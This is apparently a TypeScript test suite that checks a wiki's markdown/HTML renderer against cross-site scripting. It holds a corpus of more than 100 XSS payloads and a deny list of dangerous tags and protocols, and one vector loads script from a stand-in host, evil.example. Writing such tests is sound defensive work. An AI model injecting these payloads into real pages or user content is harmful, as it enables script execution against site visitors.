import { normalizeUrlForProtocolCheck } from '../../../../shared/core/render/safeUrl';
import { attr, elementsOf, html, type ParsedElement } from './renderHelpers';

// Elements that run script, embed documents, or change how the rest of the page is read. (MathML
// itself is inert: KaTeX writes it for screen readers; its attributes are checked like any other.)
const EXECUTABLE_ELEMENTS = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'form', 'meta', 'link',
  'style', 'svg', 'template', 'noscript', 'xmp', 'plaintext', 'textarea', 'title', 'portal', 'button',
  'select', 'option', 'isindex', 'marquee', 'bgsound', 'xml', 'import',
]);
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'poster', 'data', 'background', 'xlink:href', 'srcset', 'ping'];
const DANGEROUS = /^(?:javascript|vbscript|data|file|about):/;

/** What makes an element executable; empty when it is inert. */
function problemsOf(element: ParsedElement): string[] {
  const problems: string[] = [];
  const tag = element.tagName.toLowerCase();
  if (EXECUTABLE_ELEMENTS.has(tag)) problems.push(`<${tag}>`);
  for (const { name, value } of element.attrs) {
    const lower = name.toLowerCase();
    if (lower.startsWith('on')) problems.push(`${tag}[${lower}]`);
    if (lower === 'srcdoc' || lower === 'formaction' || lower === 'xmlns:xlink') problems.push(`${tag}[${lower}]`);
    if (URL_ATTRIBUTES.includes(lower) && DANGEROUS.test(normalizeUrlForProtocolCheck(value))) problems.push(`${tag}[${lower}=${value}]`);
    if (lower === 'style' && /expression|javascript:|behavior|binding|@import/i.test(value)) problems.push(`${tag}[style=${value}]`);
  }
  // The spoiler button is ours (no handler, no form); a button from a page never gets here.
  if (tag === 'button' && attr(element, 'class') === 'wb-spoiler-toggle' && element.attrs.length === 3) problems.pop();
  return problems;
}

const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onbegin', 'ontoggle', 'onanimationstart', 'onpointerenter', 'OnErRoR'];
const PROTOCOLS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\tscript:alert(1)',
  'java\nscript:alert(1)', 'jav&#x09;ascript:alert(1)', 'jav&#9;ascript:alert(1)', '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)', 'javascript&colon;alert(1)', '&amp;#106;avascript:alert(1)', '&#x20;javascript:alert(1)',
  'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'file:///etc/passwd', '\u0001javascript:alert(1)', 'javascript\u0000:alert(1)', 'jAvAsCrIpT&#58;alert(1)',
];

const VECTORS: string[] = [
  // Script tags, whole and broken.
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script>alert(1)', '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1);//<</script>', '<script/xss src=x></script>', '<p><script>alert(1)</script></p>',
  '<div>\n<script>\nalert(1)\n</script>\n</div>', 'text <script>alert(1)</script> inline',
  // Event handlers on allowed and other tags, quoted and not.
  ...HANDLERS.map((h) => `<img src=x ${h}=alert(1)>`),
  ...HANDLERS.map((h) => `<p ${h}="alert(1)">p</p>`),
  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror="alert(1)"></video>',
  '<input autofocus onfocus=alert(1)>', '<a href="x" onmouseover="alert(1)">a</a>', '<span/onmouseover=alert(1)>x</span>',
  '<img src="x"onerror="alert(1)">', '<img """><script>alert(1)</script>">',
  // Protocols in raw HTML attributes.
  ...PROTOCOLS.map((p) => `<a href="${p}">x</a>`),
  ...PROTOCOLS.slice(0, 8).map((p) => `<img src="${p}">`),
  '<video poster="javascript:alert(1)"></video>', '<audio src="javascript:alert(1)"></audio>',
  '<source src="javascript:alert(1)">', '<a href=javascript:alert(1)>unquoted</a>',
  // Protocols in markdown links, images, references and autolinks.
  ...PROTOCOLS.map((p) => `[x](${p.replace(/[\s()]/g, '')})`),
  '[x](<javascript:alert(1)>)', '![x](javascript:alert(1))', '[x][r]\n\n[r]: javascript:alert(1)', '<javascript:alert(1)>',
  '[x](JAVASCRIPT:alert(1) "t")', '[x](&#x6A;avascript:alert(1))', '[x](jav&#x09;ascript:alert(1))',
  // SVG and MathML.
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>', '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  // Frames, objects, srcdoc, forms, meta, base.
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>', '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">', '<frameset onload=alert(1)>', '<isindex action=javascript:alert(1) type=image>',
  // CSS.
  '<div style="width: expression(alert(1))">x</div>', '<p style="background:url(javascript:alert(1))">x</p>',
  '<span style="behavior: url(x.htc)">x</span>', '<div style="-moz-binding:url(x.xml#xss)">x</div>',
  '<p style="x:\\65 xpression(alert(1))">x</p>', '<p style="x:expr/**/ession(alert(1))">x</p>',
  '<style>@import "javascript:alert(1)";</style>', '<style>body{background:url(javascript:alert(1))}</style>',
  // Broken and nested markup that tries to end a chunk inside a tag or attribute.
  '<a title="x\n\n[y](onmouseover=alert(1))', '<div title="\n\n" onmouseover="alert(1)">', '<p <script>alert(1)</script>>',
  '<!-- --><script>alert(1)</script>', '<!--<script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>',
  '<div><img src=x onerror=alert(1)></div>', '<b><i><u><script>alert(1)</script></u></i></b>', '<a href="x"><img src=x onerror=alert(1)></a>',
  '<wb-end-of-chunk></wb-end-of-chunk><a title="x', '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<template><img src=x onerror=alert(1)></template>',
  // Wikilink and link-title injection.
  '[["><img src=x onerror=alert(1)>]]', '[[x|"><script>alert(1)</script>]]', '[[<img src=x onerror=alert(1)>|Page]]',
  '[[javascript:alert(1)]]', '[[Page#"><svg onload=alert(1)>]]', '[x](/y "\\"><img src=x onerror=alert(1)>")',
  '![<img src=x onerror=alert(1)>](y)', '![<span title=" onerror=alert(1) x=">a</span>](x.png)',
  '[x](/y \'a" onmouseover="alert(1)\')',
  // The dialect's own constructs.
  '::: x" onmouseover="alert(1)\nbody\n:::', '::: info\n# <img src=x onerror=alert(1)>\nbody\n:::',
  '>| # <img src=x onerror=alert(1)>\n>| body', '>! <script>alert(1)</script>', '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  '$<img src=x onerror=alert(1)>$', '$$<img src=x onerror=alert(1)>$$', '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$', '`$\\htmlClass{x" onclick="alert(1)}{y}$`', '```math\n<img src=x onerror=alert(1)>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```', '```"><script>alert(1)</script>\ncode\n```',
  '```python\n</code></pre><script>alert(1)</script>\n```', '---\ntitle: <img src=x onerror=alert(1)>\n---\n',
  '---\nfoo: "</pre><img src=x onerror=alert(1)>"\n---\n', '*[x]: "><img src=x onerror=alert(1)>\n\nx',
  '*[<b>]: <script>alert(1)</script>\n\n<b>', '==<img src=x onerror=alert(1)>==', '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
];

describe('the renderer against XSS', () => {
  it(`has a corpus of at least 100 vectors (${VECTORS.length})`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(100);
  });

  it.each(VECTORS.map((vector) => [vector]))('lets no executable markup out of %j', (vector) => {
    const out = html(vector);
    const problems = elementsOf(out).flatMap(problemsOf);
    expect({ vector, problems }).toEqual({ vector, problems: [] });
  });

  it('keeps protecting when a wiki extends the allow-list', () => {
    const out = html('<iframe src="jav&#x09;ascript:alert(1)"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe>', {
      htmlAllowlist: 'iframe[src width height]',
    });
    expect(elementsOf(out).flatMap(problemsOf).filter((p) => p !== '<iframe>')).toEqual([]);
    expect(elementsOf(out).some((e) => e.tagName === 'iframe')).toBe(false);
  });
});
